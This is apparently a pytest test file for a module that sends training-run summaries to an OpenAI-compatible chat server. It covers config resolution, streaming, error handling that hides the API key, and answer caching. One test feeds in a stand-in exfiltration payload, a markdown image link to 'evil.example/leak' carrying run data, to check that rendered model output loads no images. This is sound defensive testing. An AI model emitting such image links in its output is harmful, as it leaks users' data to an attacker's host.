"""`rundash_core.ai`: config resolution, the analysis context, and the real `openai` client against
an OpenAI-compatible server on 127.0.0.1 (streaming and not, error statuses, connection refused)."""
from __future__ import annotations

import logging

import pytest

import rundash_core as rd
from rundash_core import ai

from helpers.ai_server import ChatServer, dead_base_url

KEY = "sk-test-NEVER-SHOWN-4f2a9c"


@pytest.fixture
def server():
    with ChatServer() as s:
        yield s


def config(base_url: str, **kw) -> ai.AIConfig:
    return ai.AIConfig(base_url=base_url, model=kw.get("model", "test-model"), api_key=kw.get("api_key", KEY),
                       key_source="environment")


@pytest.fixture(scope="module")
def prime_run(demo_runs):
    _folder, runs = demo_runs
    row = runs[runs["kind"] == "prime-rl"].iloc[0]
    return rd.open_run(row["path"], run_id=row["run_id"])


def test_config_precedence_sidebar_then_secrets_then_environment():
    env = {ai.ENV_BASE_URL: "http://env/v1", ai.ENV_MODEL: "env-model", ai.ENV_API_KEY: "env-key"}
    secrets = {ai.ENV_MODEL: "secret-model", ai.ENV_API_KEY: "secret-key"}
    c = ai.resolve_config(sidebar={ai.ENV_MODEL: "side-model", ai.ENV_API_KEY: "  "}, secrets=secrets, environ=env)
    assert (c.base_url, c.model, c.api_key, c.key_source) == ("http://env/v1", "side-model", "secret-key", "secrets")
    assert "secret-key" not in repr(c)  # the key never shows in a repr (logs, tracebacks)

    class NoSecrets:  # st.secrets without a secrets file raises on access
        def get(self, name):
            raise FileNotFoundError("no secrets.toml")

    assert ai.resolve_config(secrets=NoSecrets(), environ=env).api_key == "env-key"
    assert not ai.resolve_config(environ={}).configured  # off until configured
    assert not ai.resolve_config(environ={ai.ENV_API_KEY: "k"}).configured  # no model
    assert ai.resolve_config(environ={ai.ENV_MODEL: "m", ai.ENV_BASE_URL: "http://local/v1"}).configured


def test_context_holds_card_findings_key_numbers_validation_and_transcripts(prime_run):
    ctx = rd.analysis_context(prime_run)
    ov = prime_run.overview()
    assert f"- run: {ov.name}" in ctx and f"- model: {ov.model}" in ctx
    for f in prime_run.health():
        assert f.message in ctx
    assert "- train/agg/effective/agent/reward/mean: steps" in ctx  # a metric's key numbers with its trend
    assert "# Validation (" in ctx
    samples = prime_run.samples()
    samples = samples[samples["reward"].notna()]  # (the live step's samples have no reward yet)
    last = samples[(samples["split"] == "train") & (samples["step"] == samples["step"].max())]
    worst = last.sort_values("reward", kind="stable").iloc[0]
    assert f"## worst sample {worst['sample_id']}" in ctx and "## best sample" in ctx
    assert ai.estimate_tokens(ctx) <= ai.DEFAULT_BUDGET_TOKENS
    small = rd.analysis_context(prime_run, budget_tokens=600)
    assert ai.estimate_tokens(small) <= 600 and small.endswith("[… cut to fit the context budget]")
    assert small.startswith("# Run")  # the card and the findings come first


def test_streamed_answer_through_the_openai_client(server, prime_run):
    server.answer = "Reward is rising; grad-norm spikes are isolated."
    chunks = list(rd.analyze(prime_run, "Is this run healthy?", model="other-model", config=config(server.base_url)))
    assert len(chunks) > 1 and "".join(chunks) == server.answer  # streamed, in pieces
    (req,) = server.requests
    assert req["path"] == "/v1/chat/completions" and req["body"]["stream"] is True
    assert req["body"]["model"] == "other-model"
    assert req["headers"]["authorization"] == f"Bearer {KEY}"
    user = req["body"]["messages"][-1]["content"]
    assert prime_run.name in user and "train/agg/effective/agent/reward/mean" in user
    assert user.endswith("# Question\nIs this run healthy?")
    assert req["body"]["messages"][0]["role"] == "system"


def test_a_whole_answer_without_streaming(server):
    server.answer = "Fine."
    assert ai.complete_chat(config(server.base_url), ai.build_messages("ctx", "q?")) == "Fine."
    assert "stream" not in server.requests[0]["body"] or server.requests[0]["body"]["stream"] is False


@pytest.mark.parametrize("status,expected", [(500, "HTTP 500"), (401, "rejected the API key (401)"),
                                             (429, "rate limiting"), (400, "context is too long")])
def test_endpoint_errors_are_clear_messages(server, status, expected, caplog):
    caplog.set_level(logging.DEBUG)
    server.status = status
    with pytest.raises(ai.AIError) as err:
        list(ai.stream_chat(config(server.base_url), ai.build_messages("ctx", "q?")))
    assert expected in str(err.value) and KEY not in str(err.value)
    assert err.value.__cause__ is None and err.value.__suppress_context__  # no chained traceback
    assert KEY not in caplog.text
    with pytest.raises(ai.AIError, match=expected.split(" (")[0]):
        ai.complete_chat(config(server.base_url), ai.build_messages("ctx", "q?"))


def test_connection_refused_is_a_clear_message():
    url = dead_base_url()
    with pytest.raises(ai.AIError, match="Could not reach the endpoint http://127.0.0.1:"):
        list(ai.stream_chat(config(url), ai.build_messages("ctx", "q?")))


def test_unconfigured_endpoint_sends_nothing(server):
    with pytest.raises(ai.AIError, match="No AI endpoint configured"):
        list(ai.stream_chat(ai.AIConfig(base_url=server.base_url), ai.build_messages("ctx", "q?")))
    assert server.requests == []


def test_model_output_loads_no_images_even_across_chunks():
    chunks = ["See !", "[chart](http://evil.example/leak?d=run", "data)\nand ![x][ref]\n", "end"]
    out = "".join(ai.safe_lines(chunks))
    assert "![" not in out and "[chart](http://evil.example/leak?d=rundata)" in out and out.endswith("end")


def test_answer_cache_is_keyed_without_the_api_key():
    cache = ai.AnswerCache(size=2)
    c1, c2 = config("http://a/v1"), config("http://a/v1", api_key="other-key")
    k = ai.AnswerCache.key("fp", "q", c1)
    assert k == ai.AnswerCache.key("fp", "q", c2) and KEY not in repr(k)
    cache.put(k, "a1")
    cache.put(ai.AnswerCache.key("fp", "q2", c1), "a2")
    assert cache.get(k) == "a1"
    cache.put(ai.AnswerCache.key("fp", "q3", c1), "a3")  # evicts the least recently used (q2)
    assert cache.get(ai.AnswerCache.key("fp", "q2", c1)) is None and cache.get(k) == "a1"
    assert ai.AnswerCache.key("fp", "q", config("http://a/v1", model="m2")) != k
